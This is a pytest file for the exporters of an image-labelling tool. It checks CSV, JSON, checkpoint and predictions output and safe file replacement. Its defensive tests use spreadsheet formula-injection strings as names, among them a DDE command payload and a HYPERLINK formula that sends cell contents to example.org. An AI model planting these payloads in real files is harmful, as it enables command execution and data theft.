import csv
import json
import string
from dataclasses import fields, replace
from pathlib import Path
from tempfile import TemporaryDirectory

import numpy as np
import pytest
import safetensors.numpy
from hypothesis import given
from hypothesis import strategies as st

from autoal_gui.core.database.round_rows import Suggestion
from autoal_gui.core.errors import Cancelled, CheckpointError, ProjectError
from autoal_gui.core.images.source import ListedImage, Listing
from autoal_gui.core.measures.caution import Caution, Rule
from autoal_gui.core.measures.conformal import Calibration
from autoal_gui.core.measures.operating.decision import Threshold
from autoal_gui.core.project.export_snapshot import Choices, Snapshot
from autoal_gui.core.project.project import Project
from autoal_gui.core.registry import discover
from autoal_gui.core.sets.comparison import ModelAnswers
from autoal_gui.core.sets.tables.cells import meant, plain
from autoal_gui.core.sets.tables.table import read_table
from autoal_gui.core.system.files import replacing
from autoal_gui.core.trained_model import TrainedModel
from autoal_gui.exporters import csv_labels, json_labels, predictions, pt, safetensors_model
from autoal_gui.sources.opening import open_images
from tests.support.project import (
    as_ordinary_user,
    create,
    draw_images,
    everything_in,
    folder_spec,
    needs_permissions,
    new_project,
    reopened,
    result_of,
)
from tests.tools.limits import files_of_at_most, needs_limits

HOSTILE = (
    "läsion, „groß“ ▲",
    'a "quoted"\nsecond line\r\nthird',
    "=2+2",
    "+ve",
    "-ve",
    "@SUM(A1:A9)",
    "a\t=1+1",
    "'already quoted",
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "不明",
)


FORMULAS = tuple("=+-@＝＋－＠\t\r\n")


def rows_of(file: Path) -> list[dict[str, str]]:
    with file.open(newline="", encoding="utf-8-sig") as stream:
        return list(csv.DictReader(stream, strict=True))


def as_meant(cell: str) -> str:
    """Undo what keeps a spreadsheet from computing a text."""
    return cell.removeprefix("'")


@pytest.fixture
def project(tmp_path):
    project = new_project(tmp_path, evaluation_images=2)
    yield project
    project.close()


@pytest.fixture
def hostile(tmp_path):
    """A project whose classes, annotator and files are named to hurt."""
    images = draw_images(tmp_path / "images", 1, classes=("=1+1", "größe, a"), loose=1)
    (images / "000.png").rename(images / "@SUM(A1).png")
    project = create(
        tmp_path / "project",
        folder_spec(images),
        annotator="=Dr,\n+X",
        classes=("=1+1", "größe, a", *HOSTILE),
        evaluation_images=0,
    )
    yield project
    project.close()


# -- labels as CSV ----------------------------------------------------------------------------


def test_the_table_says_what_the_project_says(project, tmp_path):
    evaluation = project.labels.unanswered_evaluation()[0]
    first, second, third, fourth = project.labels.unanswered()[:4]
    project.labels.answer(fourth, "label", 1, Suggestion(0, 2 / 3), shown=True)
    project.labels.answer(evaluation, "label", 0)
    project.rounds.finish(result_of(project, project.rounds.begin()))
    project.labels.answer(first, "label", 0, Suggestion(1, 0.5))
    project.labels.answer(second, "unsure")
    project.labels.answer(third, "skip")
    project.labels.answer(third, "label", 1)
    project.labels.undo()
    target = tmp_path / "labels.csv"
    csv_labels.write(target, Snapshot.of(project))
    rows = rows_of(target)
    assert list(rows[0]) == list(csv_labels.COLUMNS)
    assert csv_labels.COLUMNS[0] == "image"  # by which tables are joined
    assert [int(row["image_id"]) for row in rows] == sorted(project.labels.answers)
    by_id = {int(row["image_id"]): row for row in rows}
    for image_id, entry in project.labels.answers.items():
        row, image = by_id[image_id], project.pool.images[image_id]
        assert (row["image"], row["sha256"], row["split"]) == (image.key, image.sha256, image.split)
        assert (row["annotator"], row["at"]) == (entry.annotator, entry.at)
        assert int(row["round"]) == entry.round_number
    assert (by_id[first]["answer"], by_id[first]["label"]) == ("label", "abnormal")
    assert (by_id[second]["answer"], by_id[second]["label"]) == ("unsure", "")
    assert (by_id[third]["answer"], by_id[third]["label"]) == ("skip", "")
    assert (by_id[evaluation]["split"], by_id[first]["split"]) == ("evaluation", "pool")
    assert (by_id[fourth]["round"], by_id[first]["round"]) == ("0", "1")
    told = [
        [by_id[i][c] for c in ("suggested", "confidence", "suggestion_shown")]
        for i in (fourth, first, second)
    ]
    assert told == [["abnormal", "0.6667", "1"], ["normal", "0.5000", "0"], ["", "", "0"]]


def test_known_labels_are_in_the_table_as_labels(tmp_path):
    project = new_project(tmp_path, label_use="labelled")
    csv_labels.write(tmp_path / "t.csv", Snapshot.of(project))
    rows = rows_of(tmp_path / "t.csv")
    assert {row["answer"] for row in rows} == {"label"}
    assert {row["image"].split("/")[0] == row["label"] for row in rows} == {True}
    project.close()


def test_a_project_without_answers_gives_a_table_without_rows(project, tmp_path):
    csv_labels.write(tmp_path / "t.csv", Snapshot.of(project))
    head = ",".join(csv_labels.COLUMNS)
    assert (tmp_path / "t.csv").read_bytes() == f"\ufeff{head}\r\n".encode()


def test_names_of_every_kind_come_back_and_none_is_a_formula(hostile, tmp_path):
    images = sorted(hostile.pool.images)
    target = tmp_path / "größe ▲.csv"
    for index, name in enumerate(hostile.classes.names):
        hostile.labels.answer(images[index % 3], "label", index, Suggestion(index, 1.0))
        csv_labels.write(target, Snapshot.of(hostile))
        rows = rows_of(target)
        row = next(row for row in rows if int(row["image_id"]) == images[index % 3])
        assert as_meant(row["label"]) == as_meant(row["suggested"]) == name
        for row in rows:
            assert as_meant(row["image"]) == hostile.pool.images[int(row["image_id"])].key
            assert as_meant(row["annotator"]) == "=Dr,\n+X"
            assert not [cell for cell in row.values() if cell.startswith(FORMULAS)]


def test_the_program_reads_its_own_table_as_it_was_meant(hostile, tmp_path):
    image, target = min(hostile.pool.images), tmp_path / "t.csv"
    for index, name in enumerate(hostile.classes.names):
        hostile.labels.answer(image, "label", index)
        csv_labels.write(target, Snapshot.of(hostile))
        table = read_table(target)
        assert table.columns == csv_labels.COLUMNS
        # A cell of one line, as every table gives it.
        assert table.column("label")[0] in (name, name.strip()), name


def test_only_what_needs_it_is_changed(hostile, tmp_path):
    image = min(hostile.pool.images)
    for name in ("größe, a", "不明", "läsion, „groß“ ▲"):
        hostile.labels.answer(image, "label", hostile.classes.names.index(name))
        csv_labels.write(tmp_path / "t.csv", Snapshot.of(hostile))
        assert rows_of(tmp_path / "t.csv")[0]["label"] == name


@given(
    st.text(st.sampled_from("=＝+-@\t\r\n'\" a;1")), st.text(st.sampled_from("=＝+-@\t\r\n'\" a;1"))
)
def test_no_two_texts_become_the_same_cell(first, second):
    cells = plain(first), plain(second)
    assert (cells[0] == cells[1]) == (first == second)
    assert as_meant(cells[0]) == meant(cells[0]) == first
    assert not cells[0].startswith(FORMULAS)


# -- models -----------------------------------------------------------------------------------

ARRAYS = {
    "head.weight": np.arange(12, dtype=np.float32).reshape(3, 4) / 7,
    "head.bias": np.array([-0.0, 1e-38, 3e38], np.float32),
    "bn.num_batches_tracked": np.array(7, np.int64),
    "backbone.transposed": np.arange(6, dtype=np.float32).reshape(2, 3).T,
    "backbone.every_other": np.arange(10, dtype=np.float64)[::2],
    "empty": np.zeros((0, 3), np.float32),
}
CARD = {
    "classes": ("gesund", "Läsion, „groß“\n▲"),
    "input_size": 28,
    "mean": (0.5,),
    "confusion": ((3, 1), (0, 2)),
    "settings": '{"mode": "paper"}',
    "versions": (("torch", "2"),),
}


@pytest.fixture
def model(tmp_path):
    checkpoint = tmp_path / "models" / "round-0001.pt"
    checkpoint.parent.mkdir()
    checkpoint.write_bytes(np.random.default_rng(0).bytes(100_000))
    return TrainedModel(checkpoint, CARD, ARRAYS)


def test_pt_is_the_checkpoint_byte_for_byte(model, tmp_path):
    target = tmp_path / "größe.pt"
    pt.write(target, model)
    assert target.read_bytes() == model.checkpoint.read_bytes()


def test_pt_onto_the_checkpoint_itself_leaves_it_whole(model):
    content = model.checkpoint.read_bytes()
    pt.write(model.checkpoint, model)
    assert model.checkpoint.read_bytes() == content


def test_safetensors_hold_the_same_arrays_and_the_card(model, tmp_path):
    from safetensors import safe_open

    target = tmp_path / "größe.safetensors"
    safetensors_model.write(target, model)
    with safe_open(target, framework="numpy") as file:
        assert sorted(file.keys()) == sorted(ARRAYS)
        for name, array in ARRAYS.items():
            written = file.get_tensor(name)
            assert (written.dtype, written.shape) == (array.dtype, array.shape)
            np.testing.assert_array_equal(written, array)
        card = {name: json.loads(text) for name, text in file.metadata().items()}
    assert card == json.loads(json.dumps(CARD))


@pytest.mark.parametrize("exporter", [pt, safetensors_model], ids=lambda module: module.NAME)
def test_a_disk_that_writes_something_else_is_noticed(model, tmp_path, monkeypatch, exporter):
    """The fault is planted: no disk here writes what it was not given."""
    write, save = Path.write_bytes, safetensors.numpy.save_file

    def write_badly(target, content):
        return write(target, content[:50_000] + b"\0\1\2\3" + content[50_004:])

    def save_badly(arrays, target, metadata):
        save({**arrays, "head.bias": arrays["head.bias"] + 1}, target, metadata)

    monkeypatch.setattr(Path, "write_bytes", write_badly)
    monkeypatch.setattr(safetensors.numpy, "save_file", save_badly)
    target = tmp_path / "t"
    write(target, b"older")
    with pytest.raises(CheckpointError, match="differs"):
        exporter.write(target, model)
    assert target.read_bytes() == b"older"
    assert not list(tmp_path.glob("t.*"))


def test_a_missing_checkpoint_is_said_to_be_missing(model, tmp_path):
    model.checkpoint.unlink()
    with pytest.raises(CheckpointError, match="could not be written"):
        pt.write(tmp_path / "t.pt", model)
    assert not (tmp_path / "t.pt").exists()


# -- targets that cannot be written -----------------------------------------------------------


@pytest.fixture(params=["csv", "json", "npz", "audit", "pt", "safetensors"])
def write(request, project, model):
    """Write with each exporter in turn; any may fail in one way alone."""
    project.labels.answer(project.labels.unanswered()[0], "label", 0)
    exporter = discover("autoal_gui.exporters")[request.param]
    given_ = Snapshot.of(project) if exporter.KIND == "labels" else model

    def write(target):
        exporter.write(target, given_)

    return write


FAILURES = (ProjectError, CheckpointError)


@pytest.mark.parametrize(
    "name", ["no/such/folder/t", "file/t", "folder", "x" * 300, "null\0character", "", ".", "/"]
)
def test_a_target_that_cannot_be_written_gives_one_sentence(write, tmp_path, name):
    (tmp_path / "file").write_bytes(b"not a folder")
    (tmp_path / "folder").mkdir()
    (tmp_path / "folder" / "kept").write_bytes(b"kept")
    before = sorted(tmp_path.rglob("*"))
    with pytest.raises(FAILURES) as caught:
        write(tmp_path / name if name not in ("", ".", "/") else Path(name))
    assert str(caught.value).endswith((".", "?"))
    assert sorted(tmp_path.rglob("*")) == before


def test_a_file_that_was_there_is_replaced_whole(write, tmp_path):
    target = tmp_path / "t"
    write(target)
    once = sorted(target.read_bytes())  # safetensors orders its metadata as it likes
    target.write_bytes(b"older " * 1_000_000)
    write(target)
    assert sorted(target.read_bytes()) == once
    assert sorted(p.name for p in tmp_path.iterdir()) == ["images", "models", "project", "t"]


def test_a_file_of_the_users_beside_the_target_is_left_alone(write, tmp_path):
    names = ("t.part", "t.part1", "t.part2", "t.tmp", "t~")
    for name in names:
        (tmp_path / name).write_bytes(b"mine")
    write(tmp_path / "t")
    (tmp_path / "t").unlink()
    (tmp_path / "t").mkdir()
    with pytest.raises(FAILURES):
        write(tmp_path / "t")
    assert {(tmp_path / name).read_bytes() for name in names} == {b"mine"}
    assert not (tmp_path / "t.part3").exists()


@pytest.fixture
def place():
    """A folder that any user may reach, unlike pytest's own."""
    with TemporaryDirectory() as folder:
        yield Path(folder).resolve()


@needs_permissions
def test_a_read_only_folder_keeps_what_is_in_it(place):
    closed = place / "closed"
    closed.mkdir()
    project = new_project(place)
    project.close()
    names = ("t.csv", "t.pt", "t.safetensors")
    for name in names:
        (closed / name).write_bytes(b"older")
    own = place / "model.pt"
    own.write_bytes(b"weights")
    with as_ordinary_user(*everything_in(place)):
        project = Project.open(project.folder, open_images)
        project.labels.answer(1, "label", 0)
        closed.chmod(0o500)
        for name in names:
            exporter = discover("autoal_gui.exporters")[name.split(".")[1]]
            labels = exporter.KIND == "labels"
            given_ = Snapshot.of(project) if labels else TrainedModel(own, CARD, ARRAYS)
            with pytest.raises(FAILURES):
                exporter.write(closed / name, given_)
        closed.chmod(0o700)
        project = reopened(project)
        assert project.labels.training() == ((1, 0),)
        project.close()
    assert {(closed / name).read_bytes() for name in names} == {b"older"}
    assert sorted(p.name for p in closed.iterdir()) == sorted(names)


@needs_limits
def test_a_full_disk_keeps_what_was_there(write, tmp_path):
    target = tmp_path / "t"
    target.write_bytes(b"older")
    before = sorted(tmp_path.iterdir())
    with files_of_at_most(64), pytest.raises(FAILURES):
        write(target)
    assert target.read_bytes() == b"older"
    assert sorted(tmp_path.iterdir()) == before


@pytest.mark.parametrize("name", ["csv", "json"])
def test_a_long_table_that_is_cancelled_keeps_what_was_there(name, project, tmp_path, monkeypatch):
    exporter = discover("autoal_gui.exporters")[name]
    monkeypatch.setattr(csv_labels, "EVERY", 2)
    monkeypatch.setattr(json_labels, "EVERY", 2)
    for image_id in project.labels.unanswered()[:5]:
        project.labels.answer(image_id, "label", 0)
    (tmp_path / "t").write_bytes(b"older")
    before = sorted(tmp_path.iterdir())

    def stop(done, total):
        assert 0 < done < total
        raise Cancelled("It was stopped.")

    with pytest.raises(Cancelled):
        exporter.write(tmp_path / "t", Snapshot.of(project), progress=stop)
    assert (tmp_path / "t").read_bytes() == b"older"
    assert sorted(tmp_path.iterdir()) == before


def test_what_is_replaced_is_the_old_file_until_the_new_one_is_whole(tmp_path):
    target = tmp_path / "t"
    target.write_bytes(b"older")

    def write(fails):
        with replacing(target) as partial:
            partial.write_bytes(b"newer")
            assert target.read_bytes() == b"older"
            assert partial.parent == target.parent  # moved within one disk
            if fails:
                raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write(fails=True)
    assert [(p.name, p.read_bytes()) for p in tmp_path.iterdir()] == [("t", b"older")]
    write(fails=False)
    assert [(p.name, p.read_bytes()) for p in tmp_path.iterdir()] == [("t", b"newer")]


def test_every_exporter_keeps_the_contract():
    exporters = discover("autoal_gui.exporters")
    assert {"csv", "json", "folders", "npz", "pt", "safetensors", "onnx", "pt2"} <= set(exporters)
    for module in exporters.values():
        assert module.KIND in ("labels", "model", "report")
        assert module.SUFFIX.startswith(".") or not module.SUFFIX
        assert set(module.SUFFIX[1:]) <= set(string.ascii_lowercase + string.digits)
        assert module.LABEL
        assert module.ABOUT.endswith(".")
        assert set(module.OPTIONS) <= {choice.name for choice in fields(Choices)}
        assert module.KIND != "model" or isinstance(module.missing(), str)


# -- predictions ---------------------------------------------------------------------------------

FOUND = Listing(
    classes=("known", "=other"),
    images=(
        ListedImage("=a.png", "1" * 64, label=1),
        ListedImage("b.png", "2" * 64, split="evaluation"),
        ListedImage("c.png", "3" * 64),
    ),
)
SAID = (FOUND, ("x", "y"), (1, 2))
SHARES = np.array([[0.25, 0.75], [0.9999996, 0.0000004]], np.float32)


def test_predictions_are_a_row_an_image_and_no_formula(tmp_path):
    found = predictions.Predicting(FOUND, ("x", "-y"), (1, 2), SHARES, model="=round 4")
    predictions.save_predictions(tmp_path / "t.csv", found)
    first, second = rows_of(tmp_path / "t.csv")
    assert list(first) == ["image", "split", "label", "predicted", "p(x)", "p(-y)", "model"]
    known = ["'=a.png", "new file", "'=other", "'-y", "0.250000", "0.750000", "'=round 4"]
    assert list(first.values()) == known
    other = ["b.png", "evaluation", "", "x", "1.000000", "0.000000", "'=round 4"]
    assert list(second.values()) == other


def test_predictions_at_an_operating_point_say_by_which_rule(tmp_path):
    at_point = predictions.Predicting(*SAID, SHARES, Threshold(0, 0.2))
    predictions.save_predictions(tmp_path / "t.csv", at_point)
    first, _ = rows_of(tmp_path / "t.csv")
    assert (first["predicted"], first["p(x)"]) == ("x", "0.250000")  # though y is likelier
    assert (list(first)[-1], first["rule"]) == ("rule", "x from 0.200000 on")


def test_predictions_tell_files_of_the_project_from_new_ones(tmp_path):
    shares = np.full((3, 2), 0.5, np.float32)
    own = predictions.Own({"c.png", "b.png"})
    found = predictions.Predicting(FOUND, ("x", "y"), (1, 2, 3), shares, own=own)
    predictions.save_predictions(tmp_path / "t.csv", found)
    rows = rows_of(tmp_path / "t.csv")
    assert [row["split"] for row in rows] == ["new file", "evaluation", "in the project"]
    assert "project_label" not in rows[0]


def test_a_listing_forgets_the_labels_of_some_images_alone():
    keys = {"=a.png"}
    left = FOUND.without_labels(keys)
    for before, after in zip(FOUND.images, left.images, strict=True):
        assert after == (replace(before, label=None) if before.key in keys else before)
    assert any(one.label is not None and one.key in keys for one in FOUND.images)


def test_predictions_tell_what_taught_the_model_and_what_readers_said(tmp_path):
    shares = np.full((3, 2), 0.5, np.float32)
    own = predictions.Own({"=a.png", "c.png"}, {"c.png"}, {"c.png": "y"})
    found = predictions.Predicting(FOUND, ("x", "y"), (1, 2, 3), shares, own=own)
    predictions.save_predictions(tmp_path / "t.csv", found)
    rows = rows_of(tmp_path / "t.csv")
    assert [row["split"] for row in rows] == ["in the project", "evaluation", "taught the model"]
    assert [row["project_label"] for row in rows] == ["", "", "y"]
    assert list(rows[0])[:5] == ["image", "split", "label", "project_label", "predicted"]


def test_what_is_not_answered_and_what_others_say_follow_the_predictions(tmp_path):
    calibration = Calibration(np.linspace(0, 0.8, 99), np.zeros(99), np.arange(99))
    caution = Caution.of(SHARES, Rule(0.8, 0.9), calibration, np.array([0.0, 1.0]))
    other = ModelAnswers("b", ("x", "z"), {1: np.array([0.5, 0.5])})
    found = predictions.Predicting(*SAID, SHARES, None, caution, [other])
    predictions.save_predictions(tmp_path / "t.csv", found)
    first, second = rows_of(tmp_path / "t.csv")
    assert list(first)[6:-1] == [
        "stands_by", "look", "possible", "typical", "predicted by b", "p(x) by b", "p(z) by b"
    ]  # fmt: skip
    assert list(first.values())[6:-1] == ["", "unsure", "y", "1.0000", "x", "0.500000", "0.500000"]
    assert list(second.values())[6:-1] == ["", "unlike", "x", "0.0100", "", "", ""]


def test_predictions_that_cannot_be_written_leave_what_was_there(tmp_path):
    target = tmp_path / "t.csv"
    target.write_bytes(b"older")
    with pytest.raises(ProjectError, match="could not be written there"):
        predictions.save_predictions(target / "below", predictions.Predicting(*SAID, SHARES))
    with pytest.raises(ValueError, match="shorter"):
        predictions.save_predictions(target, predictions.Predicting(*SAID, SHARES[:1]))
    assert target.read_bytes() == b"older"
    assert [path.name for path in tmp_path.iterdir()] == ["t.csv"]
